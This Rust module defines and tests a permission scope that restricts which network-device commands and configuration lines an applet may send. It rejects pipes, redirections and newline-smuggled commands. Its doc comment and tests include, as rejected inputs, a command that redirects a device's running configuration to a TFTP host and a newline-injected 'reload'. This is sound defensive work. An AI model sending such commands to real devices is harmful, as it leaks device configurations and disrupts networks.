//! The `netdev` permission:
//! `netdev = { devices = [...], actions = [...], commands = [...], lines = [...] }`.
//!
//! `devices` (required) are cmdb selectors; every device a call reaches must be picked by one.
//! `actions`:
//! - `read`: commands the device's profile lists as looking only (`show **`, `display **`, ...),
//!   and `netdev.backup` (which reads the running configuration);
//! - `exec`: any command at the device's CLI (within `commands`, when listed), and `expect`;
//! - `config`: configuration lines (within `lines`, when listed) and saving.
//!
//! Patterns are words: `*` stands for one word, a final `**` for any number of words, and no
//! wildcard ever stands for a pipe `|`, `;`, `>` or `<` (so `show **` does not allow
//! `show run | redirect tftp://...`). Literal words match exactly.

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Scope {
    pub devices: Vec<String>,
    pub read: bool,
    pub exec: bool,
    pub config: bool,
    /// Patterns `exec` commands must match (None: any).
    pub commands: Option<Vec<String>>,
    /// Patterns configuration lines must match (None: any).
    pub lines: Option<Vec<String>>,
}

const ACTIONS: &[&str] = &["read", "exec", "config"];

impl Scope {
    pub fn parse(v: &toml::Value) -> Result<Scope, String> {
        let t = v.as_table().ok_or("expected a table like { devices = [\"group:switches\"], actions = [\"read\"] }")?;
        const KEYS: &[&str] = &["devices", "actions", "commands", "lines"];
        if let Some(k) = t.keys().find(|k| !KEYS.contains(&k.as_str())) {
            return Err(format!("unknown key `{k}` (known: {})", KEYS.join(", ")));
        }
        let list = |key: &str| crate::kit::string_list(t, key);
        let devices = list("devices")?.unwrap_or_default();
        if devices.is_empty() {
            return Err("`devices` is required: the selectors this applet may reach, like devices = [\"group:switches\"]".into());
        }
        for d in &devices {
            if d != "*" {
                crate::cmdb::Selector::parse(d).map_err(|m| format!("devices: `{d}`: {m}"))?;
            }
        }
        let actions = list("actions")?.unwrap_or_default();
        if actions.is_empty() {
            return Err("`actions` is required: any of \"read\", \"exec\", \"config\"".into());
        }
        if let Some(a) = actions.iter().find(|a| !ACTIONS.contains(&a.as_str())) {
            return Err(format!("actions: unknown action `{a}` (known: {})", ACTIONS.join(", ")));
        }
        let has = |a: &str| actions.iter().any(|x| x == a);
        let commands = list("commands")?;
        let lines = list("lines")?;
        if let Some(p) = commands.iter().chain(lines.iter()).flatten().find(|p| p.trim().is_empty()) {
            return Err(format!("`{p}` is an empty pattern"));
        }
        if commands.is_some() && !has("exec") {
            return Err("`commands` limits the `exec` action, which `actions` does not list".into());
        }
        if lines.is_some() && !has("config") {
            return Err("`lines` limits the `config` action, which `actions` does not list".into());
        }
        Ok(Scope { devices, read: has("read"), exec: has("exec"), config: has("config"), commands, lines })
    }

    /// Whether `command` may be sent, given whether the device's profile calls it a read.
    pub fn allows_command(&self, command: &str, is_read: bool) -> Result<(), String> {
        if self.read && is_read {
            return Ok(());
        }
        if !self.exec {
            return Err(if self.read {
                format!(
                    "`{command}` is not a read-only command of this device's profile, and the applet's netdev permission grants only `read` (add \"exec\" to its actions)"
                )
            } else {
                "the applet's netdev permission does not grant `read` or `exec`".into()
            });
        }
        match &self.commands {
            Some(list) if !list.iter().any(|p| matches(p, command)) => {
                Err(format!("`{command}` matches none of the applet's netdev commands ({})", list.join(", ")))
            }
            _ => Ok(()),
        }
    }

    pub fn allows_line(&self, line: &str) -> Result<(), String> {
        if !self.config {
            return Err("the applet's netdev permission does not grant `config`".into());
        }
        match &self.lines {
            Some(list) if !list.iter().any(|p| matches(p, line)) => {
                Err(format!("configuration line `{}` matches none of the applet's netdev lines ({})", line.trim(), list.join(", ")))
            }
            _ => Ok(()),
        }
    }
}

/// A word a wildcard may stand for: not a pipe, command separator or redirection.
fn wild_word(w: &str) -> bool {
    !w.contains(['|', ';', '>', '<', '\n', '\r'])
}

/// Matches `command` against `pattern`, word by word (see the module docs).
pub fn matches(pattern: &str, command: &str) -> bool {
    if command.contains(['\n', '\r']) {
        return false;
    }
    let p: Vec<&str> = pattern.split_whitespace().collect();
    let c: Vec<&str> = command.split_whitespace().collect();
    let mut i = 0;
    for (k, pw) in p.iter().enumerate() {
        match *pw {
            "**" if k == p.len() - 1 => return c[i..].iter().all(|w| wild_word(w)),
            "*" => {
                if i >= c.len() || !wild_word(c[i]) {
                    return false;
                }
            }
            lit => {
                if c.get(i) != Some(&lit) {
                    return false;
                }
            }
        }
        i += 1;
    }
    i == c.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wildcards_are_words_and_never_pipes() {
        assert!(matches("show **", "show running-config"));
        assert!(matches("show **", "show"));
        assert!(matches("show **", "show  interfaces   status"));
        assert!(!matches("show **", "show run | redirect tftp://10.0.0.1/x"));
        assert!(!matches("show **", "show run\nreload"));
        assert!(!matches("show *", "show interfaces status"));
        assert!(matches("vlan *", "vlan 42"));
        assert!(!matches("vlan *", "vlan"));
        assert!(!matches("vlan *", "no vlan 42"));
        assert!(matches("show configuration | display set", "show configuration | display set"));
        assert!(!matches("name *", "name a;b"));
    }

    #[test]
    fn actions_decide_what_may_be_sent() {
        let s = |t: &str| Scope::parse(&toml::from_str::<toml::Value>(&format!("x = {t}")).unwrap()["x"]);
        let read = s(r#"{ devices = ["group:sw"], actions = ["read"] }"#).unwrap();
        assert!(read.allows_command("show version", true).is_ok());
        let e = read.allows_command("reload", false).unwrap_err();
        assert!(e.contains("grants only `read`"), "{e}");
        assert!(read.allows_line("vlan 42").is_err());
        let vlan = s(r#"{ devices = ["*"], actions = ["read", "config"], lines = ["vlan *", "name *", "exit"] }"#).unwrap();
        assert!(vlan.allows_line("vlan 42").is_ok() && vlan.allows_line(" name users").is_ok());
        let e = vlan.allows_line("interface Gi0/1").unwrap_err();
        assert!(e.contains("matches none of the applet's netdev lines"), "{e}");
        assert!(s(r#"{ devices = ["*"], actions = ["read"], lines = ["x"] }"#).unwrap_err().contains("`lines` limits"));
        assert!(s(r#"{ devices = ["*"], actions = ["write"] }"#).unwrap_err().contains("unknown action `write`"));
        assert!(s(r#"{ actions = ["read"] }"#).unwrap_err().contains("`devices` is required"));
        assert!(s(r#"{ devices = ["*"], actions = ["read"], hosts = [] }"#).unwrap_err().contains("unknown key `hosts`"));
    }
}
